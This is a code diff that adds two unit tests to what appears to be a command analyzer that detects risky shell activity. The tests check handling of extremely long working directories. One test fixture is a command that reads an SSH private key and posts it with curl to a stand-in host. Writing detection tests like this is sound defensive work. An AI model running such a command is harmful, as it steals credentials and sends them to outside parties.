@@ -92,4 +92,25 @@ describe('command facts for the analyzer', () => {
     expect(f.tags).not.toContain('exec.unparseable');
     expect(f.binaries).toEqual(['wc']);
   });
+
+  it('keeps the findings of a command run in a working directory longer than a path can be', () => {
+    const f = commandFacts(EXFIL, `/${'d'.repeat(5_000)}`, ctx);
+    // Before: only exec.unanalysable (the analysis gave up), so a credential upload raised a medium alert.
+    expect(f.tags).toEqual(expect.arrayContaining(['read.ssh-key', 'net.upload', 'exec.unanalysable']));
+  });
+
+  it("bounds a command's facts when a long working directory makes every relative path long", () => {
+    const names = Array.from({ length: 255 }, (_, i) => `f_${i}`).join(' ');
+    const f = commandFacts(
+      `cat ${names} ~/.ssh/id_rsa | curl -d @- https://drop.example.net/x`,
+      `/${'d'.repeat(4_000)}`,
+      ctx,
+    );
+    const chars = f.paths.reduce((n, p) => n + p.path.length, 0) + f.argv.reduce((n, w) => n + w.length, 0);
+    // 256 paths of ~4,000 characters were a million characters of facts per event.
+    expect(chars).toBeLessThan(60_000);
+    // The path named outright is kept before the made-long ones.
+    expect(f.paths.some((p) => p.path.endsWith('/.ssh/id_rsa'))).toBe(true);
+    expect(f.tags).toEqual(expect.arrayContaining(['read.ssh-key', 'net.upload']));
+  });
 });
